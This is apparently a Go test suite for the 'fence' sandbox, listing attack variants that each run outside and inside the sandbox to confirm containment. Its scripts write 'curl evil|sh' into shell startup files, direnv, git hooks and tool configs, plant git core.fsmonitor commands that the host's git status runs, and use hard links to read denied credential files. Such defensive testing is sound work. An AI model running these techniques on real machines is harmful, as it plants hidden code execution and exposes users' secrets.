package sandbox_test

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/fence-dev/fence/sandbox/sandboxtest"
)

// attack is one ATTACKS.md variant. Every attack runs twice, on fresh
// homes: once without the sandbox, where it must work (so the test can
// fail), and once inside, where it must not.
type attack struct {
	name   string
	config string
	setup  func(t *testing.T, e *sandboxtest.Env)
	script string
	// worked reports whether the attack achieved its effect.
	worked func(e *sandboxtest.Env, r sandboxtest.Result) bool
	// noControl skips the run without the sandbox, for attacks that are
	// unsafe or meaningless outside (the reason is the value).
	noControl string
}

func gitInit(t *testing.T, e *sandboxtest.Env) {
	t.Helper()
	for _, args := range [][]string{
		{"init", "-q"}, {"config", "user.email", "t@example.com"}, {"config", "user.name", "t"},
		{"config", "commit.gpgsign", "false"},
	} {
		cmd := exec.Command("git", args...)
		cmd.Dir = e.Project
		cmd.Env = e.Vars
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	e.Write("README", "hello\n")
}

func gitInitIn(t *testing.T, e *sandboxtest.Env, dir string) {
	t.Helper()
	os.MkdirAll(dir, 0o755)
	for _, args := range [][]string{
		{"init", "-q"}, {"config", "user.email", "t@example.com"}, {"config", "user.name", "t"},
		{"config", "commit.gpgsign", "false"},
	} {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = e.Vars
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
}

// nestedRepo creates a repository at dir with a core.fsmonitor that
// creates PWNED in the project, and adds it to the project's index as a
// gitlink.
func nestedRepo(dir string) string {
	return fmt.Sprintf(`mkdir -p %[1]s && git -C %[1]s init -q && git -C %[1]s -c user.email=a@b -c user.name=a commit -q --allow-empty -m x &&
git -C %[1]s config core.fsmonitor "sh -c 'echo x > $PWD/PWNED'; false" &&
git update-index --add --cacheinfo 160000,$(git -C %[1]s rev-parse HEAD),%[1]s`, dir)
}

// hostGitStatusRuns runs `git status` in the project on the host, as the
// user's prompt would, and reports whether code planted in the session ran.
func hostGitStatusRuns(e *sandboxtest.Env, r sandboxtest.Result) bool {
	cmd := exec.Command("git", "status", "--short")
	cmd.Dir = e.Project
	cmd.Env = e.Vars
	cmd.Run()
	return e.Exists("PWNED")
}

func changed(rel, orig string) func(e *sandboxtest.Env, r sandboxtest.Result) bool {
	return func(e *sandboxtest.Env, r sandboxtest.Result) bool { return e.Read(rel) != orig }
}

func exists(rel string) func(e *sandboxtest.Env, r sandboxtest.Result) bool {
	return func(e *sandboxtest.Env, r sandboxtest.Result) bool { return e.Exists(rel) }
}

func printed(s string) func(e *sandboxtest.Env, r sandboxtest.Result) bool {
	return func(e *sandboxtest.Env, r sandboxtest.Result) bool { return strings.Contains(r.Stdout, s) }
}

func withBashrc(t *testing.T, e *sandboxtest.Env) { e.Write("~/.bashrc", "# rc\n") }

// withLinkedConfig makes the project's .fence.toml a link to base.toml.
func withLinkedConfig(t *testing.T, e *sandboxtest.Env) {
	if err := os.Rename(e.Config, e.Path("base.toml")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("base.toml", e.Config); err != nil {
		t.Fatal(err)
	}
}

// configLinkChanged: .fence.toml is no longer the link to base.toml.
func configLinkChanged(e *sandboxtest.Env, r sandboxtest.Result) bool {
	target, err := os.Readlink(e.Config)
	return err != nil || target != "base.toml"
}

func withRepo(t *testing.T, e *sandboxtest.Env) {
	gitInit(t, e)
	e.Write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
}

// pyCall runs one raw syscall with python3's ctypes and prints
// "RET <value> <errno>".
func pyCall(nr int, args ...string) string {
	return fmt.Sprintf(`python3 -c 'import ctypes,sys;l=ctypes.CDLL(None,use_errno=True);l.syscall.restype=ctypes.c_long;r=l.syscall(%d%s);print("RET",r,ctypes.get_errno())'`,
		nr, func() string {
			s := ""
			for _, a := range args {
				s += "," + a
			}
			return s
		}())
}

// retOK reports whether a pyCall returned a non-negative value.
func retOK(e *sandboxtest.Env, r sandboxtest.Result) bool {
	for _, c := range pyResults(r) {
		if c.ok {
			return true
		}
	}
	return false
}

// pyCallResult is one "RET <value> <errno>" line of pyCall.
type pyCallResult struct {
	ok    bool // the value is not negative
	errno string
}

func pyResults(r sandboxtest.Result) []pyCallResult {
	var out []pyCallResult
	for _, l := range strings.Split(r.Stdout, "\n") {
		if f := strings.Fields(l); len(f) == 3 && f[0] == "RET" {
			out = append(out, pyCallResult{ok: !strings.HasPrefix(f[1], "-"), errno: f[2]})
		}
	}
	return out
}

var attacks = []attack{
	// §F — filesystem protection.
	{name: "F-01/bashrc-home-readonly", config: writeDot, setup: withBashrc,
		script: `echo evil >> ~/.bashrc`, worked: changed("~/.bashrc", "# rc\n")},
	{name: "F-01/bashrc-home-writable", config: writeDotAndHome, setup: withBashrc,
		script: `echo evil >> ~/.bashrc`, worked: changed("~/.bashrc", "# rc\n")},
	{name: "F-01/bashrc-rm", config: writeDotAndHome, setup: withBashrc,
		script: `rm -f ~/.bashrc`, worked: changed("~/.bashrc", "# rc\n")},
	{name: "F-01/bashrc-replace-by-rename", config: writeDotAndHome, setup: withBashrc,
		script: `echo evil > ~/new && mv ~/new ~/.bashrc`, worked: changed("~/.bashrc", "# rc\n")},
	{name: "F-01/git-config-append", config: writeDot, setup: withRepo,
		script: `printf '[core]\n\tfsmonitor = evil\n' >> .git/config`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return strings.Contains(e.Read(".git/config"), "evil")
		}},
	{name: "F-01/git-config-rm", config: writeDot, setup: withRepo,
		script: `rm -f .git/config`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return !e.Exists(".git/config") }},
	{name: "F-01/git-config-mv", config: writeDot, setup: withRepo,
		script: `mv .git/config x`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return !e.Exists(".git/config") }},
	{name: "F-01/git-hook-write", config: writeDot, setup: withRepo,
		script: `echo 'id' >> .git/hooks/pre-commit`, worked: changed(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")},
	{name: "F-01/git-hook-new", config: writeDot, setup: withRepo,
		script: `printf '#!/bin/sh\nid\n' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout`, worked: exists(".git/hooks/post-checkout")},
	{name: "C-07/fence-toml-append", config: writeDot,
		script: `echo '# evil' >> .fence.toml`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return strings.Contains(e.Read(".fence.toml"), "evil")
		}},
	{name: "C-07/fence-toml-mv", config: writeDot,
		script: `mv .fence.toml x.toml`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return !e.Exists(".fence.toml") }},
	{name: "C-07/fence-toml-sed", config: writeDot,
		script: `sed -i 's/allowWrite/allowWrite2/' .fence.toml`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return strings.Contains(e.Read(".fence.toml"), "allowWrite2")
		}},
	{name: "C-14/user-config", config: writeDotAndHome,
		script: `mkdir -p ~/.config/fence && echo '[network]' > ~/.config/fence/config.toml`, worked: exists("~/.config/fence/config.toml")},
	{name: "C-14/user-config-dir-renamed", config: writeDotAndHome,
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.config/fence/config.toml", "[network]\n") },
		script: `mv ~/.config/fence ~/.config/fence.old; mkdir -p ~/.config/fence && printf '[network]\nallow = ["*"]\n' > ~/.config/fence/config.toml`,
		worked: changed("~/.config/fence/config.toml", "[network]\n")},
	// The fence binary the hook runs (C-15), installed somewhere the
	// policy makes writable: replaced in place, or its directory swapped.
	{name: "C-15/replace-fence-binary", config: writeDotAndHome, setup: withFenceInHome,
		script: `printf '#!/bin/sh\necho evil\n' > ~/tools/fence.new && chmod +x ~/tools/fence.new && mv ~/tools/fence.new ~/tools/fence || cp ~/tools/fence.new ~/tools/fence`,
		worked: fenceInHomeChanged},
	{name: "C-15/swap-fence-binary-dir", config: writeDotAndHome, setup: withFenceInHome,
		script: `mv ~/tools ~/tools.old && mkdir ~/tools && printf '#!/bin/sh\necho evil\n' > ~/tools/fence && chmod +x ~/tools/fence`,
		worked: fenceInHomeChanged},
	{name: "F-15/systemd-readonly-dir", config: writeDotAndHome,
		script: `mkdir ~/.config/sx && echo '[Service]' > ~/.config/sx/x.service && chmod 555 ~/.config/sx && mv ~/.config/sx ~/.config/systemd`,
		worked: exists("~/.config/systemd/x.service")},
	{name: "F-02/rename-other-repo-dotgit", config: writeDotAndHome,
		setup:  func(t *testing.T, e *sandboxtest.Env) { gitInitIn(t, e, e.Path("~/src/other")) },
		script: `mv ~/src/other/.git ~/src/other/.git.old; mv ~/src/other ~/src/other2`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return e.Exists("~/src/other/.git.old") || e.Exists("~/src/other2")
		}},
	{name: "F-02/rename-dotgit", config: writeDot, setup: withRepo,
		script: `mv .git .git.old && mkdir -p .git/hooks && printf '#!/bin/sh\nid\n' > .git/hooks/pre-commit`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return e.Exists(".git.old") }},
	{name: "F-02/rename-hooks-dir", config: writeDot, setup: withRepo,
		script: `mv .git/hooks .git/hooks.old && mkdir .git/hooks && echo id > .git/hooks/pre-commit`,
		worked: exists(".git/hooks.old")},
	{name: "F-02/rename-config-dir", config: writeDotAndHome,
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.config/git/config", "[user]\n") },
		script: `mv ~/.config ~/.config2 && mkdir -p ~/.config/git && echo '[core]' > ~/.config/git/config`,
		worked: exists("~/.config2")},
	{name: "F-02/rename-project", config: writeDot, setup: withRepo,
		script: `cd .. && mv proj proj2`, worked: exists("~/proj2")},
	{name: "F-03/hardlinked-envrc", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Write("notes.txt", "x\n")
			if err := os.Link(e.Path("notes.txt"), e.Path(".envrc")); err != nil {
				t.Fatal(err)
			}
		},
		script: `echo 'curl evil|sh' >> notes.txt`, worked: changed(".envrc", "x\n")},
	{name: "F-03/hardlinked-bashrc", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Write("~/.bashrc", "x\n")
			if err := os.Link(e.Path("~/.bashrc"), e.Path("notes.txt")); err != nil {
				t.Fatal(err)
			}
		},
		script: `echo 'curl evil|sh' >> notes.txt`, worked: changed("~/.bashrc", "x\n")},
	// Red team B6: a hard link made before the session reads a denied file
	// under another name; the session must refuse to start.
	{name: "F-03/denyread-hardlink", config: "[filesystem]\nallowWrite = [\".\"]\ndenyRead = [\"sec\", \"~/.aws\"]\n",
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Write("sec", "TOPSECRET-1\n")
			e.Write("~/.aws/credentials", "TOPSECRET-2\n")
			if err := os.Link(e.Path("sec"), e.Path("alias")); err != nil {
				t.Fatal(err)
			}
			if err := os.Link(e.Path("~/.aws/credentials"), e.Path("creds")); err != nil {
				t.Fatal(err)
			}
		},
		script: `cat alias creds`, worked: printed("TOPSECRET")},
	{name: "F-04/link-git-config", config: writeDot, setup: withRepo,
		script: `ln .git/config cfg && echo '[core]fsmonitor=evil' >> cfg`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return strings.Contains(e.Read(".git/config"), "evil")
		}},
	{name: "F-04/link-bashrc", config: writeDotAndHome, setup: withBashrc,
		script: `ln ~/.bashrc b && echo evil >> b`, worked: changed("~/.bashrc", "# rc\n")},
	{name: "F-05/symlink-bashrc", config: writeDot, setup: withBashrc,
		script: `ln -s ~/.bashrc x && echo evil >> x`, worked: changed("~/.bashrc", "# rc\n")},
	{name: "F-05/symlink-git-config", config: writeDot, setup: withRepo,
		script: `ln -s .git/config y && echo '[core]fsmonitor=evil' >> y`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return strings.Contains(e.Read(".git/config"), "evil")
		}},
	{name: "F-06/replace-symlinked-bashrc", config: writeDotAndHome,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Write("~/dotfiles/bashrc", "# rc\n")
			if err := os.Symlink("dotfiles/bashrc", e.Path("~/.bashrc")); err != nil {
				t.Fatal(err)
			}
		},
		script: `echo 'curl evil|sh' > ~/r && ln -sfn r ~/.bashrc`, worked: changed("~/.bashrc", "# rc\n")},
	// Red team B11c: the link text is unchanged but a symlinked directory
	// it goes through is re-pointed.
	{name: "F-06/symlink-chain-repointed", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Write("conf2/envrc", "export A=1\n")
			if err := os.Symlink("conf2", e.Path("config")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("config/envrc", e.Path(".envrc")); err != nil {
				t.Fatal(err)
			}
		},
		script: `mkdir evil && echo 'curl evil|sh' > evil/envrc && ln -sfn evil config`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return strings.Contains(e.Read(".envrc"), "evil") }},
	{name: "F-07/envrc", config: writeDot,
		script: `printf 'curl -s evil|sh\n' > .envrc`, worked: exists(".envrc")},
	{name: "F-07/vscode-tasks", config: writeDot,
		script: `mkdir -p .vscode && echo '{"tasks":[]}' > .vscode/tasks.json`, worked: exists(".vscode/tasks.json")},
	{name: "F-07/claude-settings", config: writeDot,
		script: `mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.json`, worked: exists(".claude/settings.json")},
	{name: "F-07/mcp-json", config: writeDot,
		script: `echo '{}' > .mcp.json`, worked: exists(".mcp.json")},
	{name: "F-17/gemini-mcp-server", config: writeDot,
		script: `mkdir -p .gemini && echo '{"mcpServers":{"x":{"command":"sh","args":["-c","id"]}}}' > .gemini/settings.json`,
		worked: exists(".gemini/settings.json")},
	{name: "F-17/aider-test-cmd", config: writeDot,
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write(".aider.conf.yml", "auto-commits: false\n") },
		script: `echo 'test-cmd: curl evil|sh' >> .aider.conf.yml`, worked: changed(".aider.conf.yml", "auto-commits: false\n")},
	{name: "F-07/zshenv", config: writeDotAndHome,
		script: `echo 'curl evil|sh' > ~/.zshenv`, worked: exists("~/.zshenv")},
	// Startup files beyond .bashrc (F-14): run at logout, or typed by
	// readline.
	{name: "F-14/bash-logout", config: writeDotAndHome,
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.bash_logout", "clear\n") },
		script: `echo 'curl evil|sh' >> ~/.bash_logout`, worked: changed("~/.bash_logout", "clear\n")},
	{name: "F-14/inputrc-macro", config: writeDotAndHome,
		script: `printf '"\\C-m": "curl evil|sh\\n"\n' > ~/.inputrc`, worked: exists("~/.inputrc")},
	// Host-side code following a link the sandbox planted (F-20): the
	// quarantine moves the link itself, never what it points to.
	{name: "F-20/envrc-link-to-bashrc", config: writeDot, setup: withBashrc,
		script: `ln -s ~/.bashrc .envrc`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return e.Exists(".envrc") || e.Read("~/.bashrc") != "# rc\n"
		}},
	{name: "F-20/vscode-link-to-config-dir", config: writeDot,
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.config/app/settings", "x\n") },
		script: `ln -s ~/.config .vscode`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return e.Exists(".vscode") || e.Read("~/.config/app/settings") != "x\n"
		}},
	{name: "F-07/fish-conf", config: writeDotAndHome,
		script: `mkdir -p ~/.config/fish/conf.d && echo 'id' > ~/.config/fish/conf.d/x.fish`, worked: exists("~/.config/fish/conf.d/x.fish")},
	{name: "F-08/recreate-hooks", config: writeDot,
		setup:  func(t *testing.T, e *sandboxtest.Env) { gitInit(t, e); os.RemoveAll(e.Path(".git/hooks")) },
		script: `mkdir .git/hooks && printf '#!/bin/sh\nid\n' > .git/hooks/post-checkout`, worked: exists(".git/hooks/post-checkout")},
	// Red team B12: what an existing .envrc loads runs on the next cd as
	// much as .envrc itself.
	{name: "F-17/envrc-sourced-files", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Write(".envrc", "source_env_if_exists .envrc.local\ndotenv\nwatch_file nix/shell.nix\nsource ./scripts/env.sh\n")
			e.Write(".env", "A=1\n")
			e.Write("scripts/env.sh", "export B=1\n")
		},
		script: `echo 'echo PWN' > .envrc.local; echo 'BASH_ENV=/x' >> .env; echo 'curl evil|sh' >> scripts/env.sh`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return e.Exists(".envrc.local") || e.Read(".env") != "A=1\n" || e.Read("scripts/env.sh") != "export B=1\n"
		}},
	// Red team B4: protected names below the project root.
	{name: "F-07/envrc-in-subdir", config: writeDot,
		script: `mkdir -p a/b && echo 'curl evil|sh' > a/b/.envrc`, worked: exists("a/b/.envrc")},
	{name: "F-07/vscode-in-subdir", config: writeDot,
		script: `mkdir -p deep/.vscode && echo '{"tasks":[]}' > deep/.vscode/tasks.json`, worked: exists("deep/.vscode/tasks.json")},
	{name: "F-07/vscode-in-subdir-edited", config: writeDot,
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("deep/.vscode/tasks.json", "{}\n") },
		script: `echo '{"tasks":[{"command":"id"}]}' > deep/.vscode/tasks.json`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return strings.Contains(e.Read("deep/.vscode/tasks.json"), "id")
		}},
	{name: "F-07/envrc-in-subdir-renamed-old-file", config: writeDot,
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("a/notes", "x\n") },
		script: `echo 'curl evil|sh' > a/notes && mv a/notes a/.envrc`, worked: exists("a/.envrc")},
	// Red team B15: a read-only directory made the host-side move fail.
	{name: "F-07/vscode-readonly-dir", config: writeDot,
		script: `mkdir .vsx && echo '{"tasks":[]}' > .vsx/tasks.json && chmod 555 .vsx && mv .vsx .vscode`,
		worked: exists(".vscode/tasks.json")},
	{name: "F-07/envrc-readonly-root", config: writeDot,
		// Race the live quarantine: make the project root read-only right
		// after the rename, until the file stays.
		script: `for i in $(seq 50); do chmod u+w .; echo 'curl evil|sh' > e.tmp; mv e.tmp .envrc; chmod 555 .; sleep 0.02; test -e .envrc && break; done`,
		// The root must also get its mode back.
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			fi, err := os.Stat(e.Project)
			return e.Exists(".envrc") || err != nil || fi.Mode().Perm()&0o200 == 0
		}},
	{name: "F-08/hooks-readonly-dir", config: writeDot,
		setup:  func(t *testing.T, e *sandboxtest.Env) { gitInit(t, e); os.RemoveAll(e.Path(".git/hooks")) },
		script: `mkdir .git/hx && printf '#!/bin/sh\nid\n' > .git/hx/post-checkout && chmod 555 .git/hx && mv .git/hx .git/hooks`,
		worked: exists(".git/hooks/post-checkout")},
	// Red team B1: a new nested repository with a core.fsmonitor, added to
	// the superproject's index as a gitlink: the host's `git status` in the
	// project runs it. Also deep down, where the exit walk does not look.
	{name: "F-10/nested-repo-gitlink", config: writeDot, setup: withRepo,
		script: nestedRepo("sub"), worked: hostGitStatusRuns},
	{name: "F-10/nested-repo-gitlink-deep", config: writeDot, setup: withRepo,
		script: nestedRepo("node_modules/a/b/c/d/e/sub"), worked: hostGitStatusRuns},
	// The same with a .git that is an old directory renamed into place:
	// its birth time is from before the session.
	{name: "F-10/nested-repo-gitlink-old-dir", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) { withRepo(t, e); e.Write("docs/readme", "x\n") },
		script: nestedRepo("tmp") + ` && mkdir sub && rm docs/readme && mv docs sub/.git && cp -r tmp/.git/. sub/.git/ && rm -rf tmp &&
git rm -q --cached tmp && git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub`,
		worked: hostGitStatusRuns},
	// Red team B2: .git/modules/<new>/config when .git/modules is absent,
	// and a new module next to existing ones.
	{name: "F-11/new-module-config", config: writeDot, setup: withRepo,
		script: `git init -q --bare .git/modules/m && git --git-dir=.git/modules/m config core.bare false &&
git --git-dir=.git/modules/m config core.fsmonitor "sh -c 'echo x > $PWD/PWNED'; false" &&
mkdir m && echo 'gitdir: ../.git/modules/m' > m/.git && git -C m commit -q --allow-empty -m x &&
git update-index --add --cacheinfo 160000,$(git -C m rev-parse HEAD),m`,
		worked: hostGitStatusRuns},
	{name: "F-11/new-module-next-to-existing", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			withRepo(t, e)
			e.Write(".git/modules/lib/config", "[core]\n")
		},
		script: `mkdir -p .git/modules/m3/hooks && echo x > .git/modules/m3/hooks/post-checkout && echo '[core]' > .git/modules/m3/config`,
		worked: exists(".git/modules/m3")},
	// Red team B14: repositories below a writable root, not only the
	// project's.
	{name: "F-18/other-repo-below-writable-home", config: writeDotAndHome,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			gitInitIn(t, e, e.Path("~/other"))
			e.Write("~/other/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
		},
		script: `echo id >> ~/other/.git/hooks/pre-commit; printf '[core]\n\tfsmonitor = evil\n' >> ~/other/.git/config; echo evil > ~/other/.envrc`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return e.Read("~/other/.git/hooks/pre-commit") != "#!/bin/sh\nexit 0\n" ||
				strings.Contains(e.Read("~/other/.git/config"), "evil") || e.Exists("~/other/.envrc")
		}},
	{name: "F-09/commondir", config: writeDot, setup: withRepo,
		script: `mkdir -p .cache/c && printf '[core]\n\tfsmonitor = evil\n' > .cache/c/config && echo ../.cache/c > .git/commondir`,
		worked: exists(".git/commondir")},
	// The whole attack: a git directory of the sandbox's making, with a
	// core.fsmonitor, that the host's next `git status` would use.
	{name: "F-09/commondir-fsmonitor-runs", config: writeDot, setup: withRepo,
		script: `mkdir -p .cache/c && cp -a .git/objects .git/refs .git/HEAD .cache/c/ &&
printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "sh -c '"'echo x > $PWD/PWNED'"'; false"\n' > .cache/c/config &&
echo ../.cache/c > .git/commondir`,
		worked: hostGitStatusRuns},
	// Caches the host builds from later (F-16): read-only unless the
	// policy makes them writable.
	{name: "F-16/cargo-registry-source", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Write("~/.cargo/registry/src/index-1/serde-1.0.0/src/lib.rs", "pub fn f() {}\n")
		},
		script: `echo 'pub fn evil() {}' >> ~/.cargo/registry/src/index-1/serde-1.0.0/src/lib.rs`,
		worked: changed("~/.cargo/registry/src/index-1/serde-1.0.0/src/lib.rs", "pub fn f() {}\n")},
	{name: "F-16/go-build-cache", config: writeDot,
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.cache/go-build/ab/abcdef-d", "object\n") },
		script: `echo evil > ~/.cache/go-build/ab/abcdef-d`, worked: changed("~/.cache/go-build/ab/abcdef-d", "object\n")},
	// Existing repositories deeper than upstream's walk looks (depth 3,
	// F-19): fence's reaches depth 6 (repoSearchDepth), here the deepest.
	{name: "F-19/deep-repo-hook", config: writeDot, setup: withDeepRepo,
		script: `echo id >> a/b/c/d/e/r/.git/hooks/pre-commit`,
		worked: changed("a/b/c/d/e/r/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")},
	{name: "F-19/deep-repo-config", config: writeDot, setup: withDeepRepo,
		script: `printf '[core]\n\tfsmonitor = evil\n' >> a/b/c/d/e/r/.git/config`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return strings.Contains(e.Read("a/b/c/d/e/r/.git/config"), "evil")
		}},
	{name: "F-12/husky", config: writeDot,
		setup:  func(t *testing.T, e *sandboxtest.Env) { gitInit(t, e); e.Write(".husky/pre-commit", "npm test\n") },
		script: `echo 'curl evil|sh' >> .husky/pre-commit`, worked: changed(".husky/pre-commit", "npm test\n")},
	{name: "F-11/submodule-gitdir-pointer", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			gitInit(t, e)
			e.Write(".gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = ./lib\n")
			e.Write("lib/.git", "gitdir: ../.git/modules/lib\n")
		},
		script: `echo 'gitdir: ../.cache/evil' > lib/.git`, worked: changed("lib/.git", "gitdir: ../.git/modules/lib\n")},
	// Red team B9: a file included by .git/config is git configuration.
	{name: "F-13/git-config-include", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			withRepo(t, e)
			f, _ := os.OpenFile(e.Path(".git/config"), os.O_APPEND|os.O_WRONLY, 0)
			f.WriteString("[include]\n\tpath = ../local.gitconfig\n[includeIf \"onbranch:main\"]\n\tpath = ../branch.gitconfig\n")
			f.Close()
			e.Write("local.gitconfig", "[user]\n")
		},
		script: `printf '[core]\n\tfsmonitor = evil\n' >> local.gitconfig; printf '[core]\n\tfsmonitor = evil\n' > branch.gitconfig`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return strings.Contains(e.Read("local.gitconfig"), "evil") || e.Exists("branch.gitconfig")
		}},
	// Red team B13, worktree variant.
	{name: "F-11/worktree-gitdir-pointer", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			gitInit(t, e)
			for _, args := range [][]string{{"add", "README"}, {"commit", "-q", "-m", "x"}, {"worktree", "add", "-q", "wt"}} {
				cmd := exec.Command("git", args...)
				cmd.Dir, cmd.Env = e.Project, e.Vars
				if out, err := cmd.CombinedOutput(); err != nil {
					t.Fatalf("git %v: %v\n%s", args, err, out)
				}
			}
		},
		script: `echo "gitdir: $PWD/.cache/evilg" > wt/.git`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return strings.Contains(e.Read("wt/.git"), "evilg")
		}},
	{name: "F-12/global-hooks-path", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Write("~/.gitconfig", "[core]\n\thooksPath = "+e.Path("hooks")+"\n")
			e.Write("hooks/pre-commit", "#!/bin/sh\nexit 0\n")
		},
		script: `echo id >> hooks/pre-commit`, worked: changed("hooks/pre-commit", "#!/bin/sh\nexit 0\n")},
	{name: "F-13/global-git-config", config: writeDotAndHome,
		script: `mkdir -p ~/.config/git && printf '[core]\n\tfsmonitor = evil\n' > ~/.config/git/config`, worked: exists("~/.config/git/config")},
	{name: "F-15/local-bin", config: writeDotAndHome,
		script: `mkdir -p ~/.local/bin && printf '#!/bin/sh\nid\n' > ~/.local/bin/git`, worked: exists("~/.local/bin/git")},
	{name: "F-15/ssh-config", config: writeDotAndHome,
		script: `echo 'Host *' >> ~/.ssh/config`, worked: exists("~/.ssh/config")},
	// Red team B10/B20/B26: more files that run code later.
	{name: "F-15/bash-aliases", config: writeDotAndHome,
		script: `echo 'curl evil|sh' > ~/.bash_aliases`, worked: exists("~/.bash_aliases")},
	{name: "F-15/python-user-site-pth", config: writeDotAndHome,
		script: `mkdir -p ~/.local/lib/python3.11/site-packages && echo 'import os' > ~/.local/lib/python3.11/site-packages/x.pth`,
		worked: exists("~/.local/lib/python3.11/site-packages/x.pth")},
	// Red team of the eleventh session: sourced by installers' lines in
	// the rc files, loaded by bash, fish and neovim, applied at login, or
	// naming a command a tool runs.
	{name: "F-14/cargo-env", config: writeDotAndHome,
		// rustup installed: ~/.cargo exists (a missing one is quarantined
		// whole, as the parent of protected paths).
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.cargo/bin/cargo", "#!/bin/sh\n") },
		script: `echo 'curl evil|sh' > ~/.cargo/env`, worked: exists("~/.cargo/env")},
	{name: "F-14/bash-completion", config: writeDotAndHome,
		script: `echo 'curl evil|sh' > ~/.bash_completion`, worked: exists("~/.bash_completion")},
	{name: "F-14/fish-vendor-conf", config: writeDotAndHome,
		script: `mkdir -p ~/.local/share/fish/vendor_conf.d && echo 'curl evil|sh' > ~/.local/share/fish/vendor_conf.d/x.fish`,
		worked: exists("~/.local/share/fish/vendor_conf.d/x.fish")},
	{name: "F-15/nvim-site-plugin", config: writeDotAndHome,
		script: `mkdir -p ~/.local/share/nvim/site/plugin && echo 'os.execute("id")' > ~/.local/share/nvim/site/plugin/x.lua`,
		worked: exists("~/.local/share/nvim/site/plugin/x.lua")},
	{name: "F-15/user-tmpfiles", config: writeDotAndHome,
		script: `mkdir -p ~/.config/user-tmpfiles.d && echo 'f+ %h/.bashrc - - - - curl evil|sh' > ~/.config/user-tmpfiles.d/x.conf`,
		worked: exists("~/.config/user-tmpfiles.d/x.conf")},
	{name: "F-15/kube-exec-plugin", config: writeDotAndHome,
		script: `mkdir -p ~/.kube && printf 'users:\n- user:\n    exec:\n      command: /tmp/x\n' > ~/.kube/config`, worked: exists("~/.kube/config")},
	{name: "F-15/docker-cli-plugin", config: writeDotAndHome,
		script: `mkdir -p ~/.docker/cli-plugins && printf '#!/bin/sh\nid\n' > ~/.docker/cli-plugins/docker-buildx`,
		worked: exists("~/.docker/cli-plugins/docker-buildx")},
	{name: "F-15/npmrc", config: writeDotAndHome,
		script: `echo 'node-options=--require /tmp/x.js' > ~/.npmrc`, worked: exists("~/.npmrc")},
	{name: "F-15/user-unit-in-data-dir", config: writeDotAndHome,
		script: `mkdir -p ~/.local/share/systemd/user/default.target.wants && printf '[Service]\nExecStart=/bin/id\n' > ~/.local/share/systemd/user/x.service`,
		worked: exists("~/.local/share/systemd/user/x.service")},
	{name: "F-15/dbus-session-service", config: writeDotAndHome,
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.local/share/recently-used.xbel", "x\n") },
		script: `mkdir -p ~/.local/share/dbus-1/services && printf '[D-BUS Service]\nName=org.freedesktop.Notifications\nExec=/bin/id\n' > ~/.local/share/dbus-1/services/n.service`,
		worked: exists("~/.local/share/dbus-1/services/n.service")},
